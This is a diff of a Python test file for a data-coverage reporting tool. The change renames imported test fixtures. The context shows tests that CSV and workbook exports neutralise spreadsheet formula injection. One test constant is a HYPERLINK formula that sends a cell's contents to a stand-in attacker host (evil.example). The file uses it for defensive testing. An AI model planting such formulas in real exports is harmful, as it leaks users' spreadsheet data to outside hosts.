@@ -23,7 +23,8 @@ from coverage.reports import write_report_xlsx
 from coverage.rules import DEFAULT_RULES
 from coverage.storage import IngestRecord, Store
 from coverage.writers import csv_text, csv_unescape, formula_risk, safe_frame
-from tests.utils.api import PARAMS, app_for, key, measurements_frame, stations_frame, villages_frame
+from tests.utils.api import app_for, key
+from tests.worlds.row import PARAMS, row_measurements, row_stations, row_villages
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
 SITE_ID = "=1+2"  # the station's site id, shown as the villages' nearest_site_id
@@ -80,11 +81,11 @@ def evil_world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store
     tmp = tmp_path_factory.mktemp("evil")
     store = Store(f"sqlite:///{tmp / 'evil.db'}")
     store.create_schema()
-    villages = villages_frame()
+    villages = row_villages()
     villages.loc[0, "name"] = EVIL
-    stations = stations_frame()
+    stations = row_stations()
     stations["site_id"] = SITE_ID
-    for kind, frame in (("villages", villages), ("stations", stations), ("measurements", measurements_frame())):
+    for kind, frame in (("villages", villages), ("stations", stations), ("measurements", row_measurements())):
         store.write(kind, frame, record=IngestRecord(kind=kind, file_name=f"{kind}.test", sha256="0" * 64))
     run_analysis(store, rules=DEFAULT_RULES, params=PARAMS)
     yield store, tmp
@@ -148,7 +149,7 @@ def test_report_workbook_and_summary_table_are_formula_safe(evil_world: tuple[St
 
 
 def test_csv_export_of_a_formula_name_reads_back_unchanged(tmp_path: Path) -> None:
-    villages = villages_frame()
+    villages = row_villages()
     villages.loc[0, "name"] = EVIL
     path = write_output("villages", villages, tmp_path / "v.csv")
     assert _csv_rows(path.read_bytes())[0]["name"] == "'" + EVIL
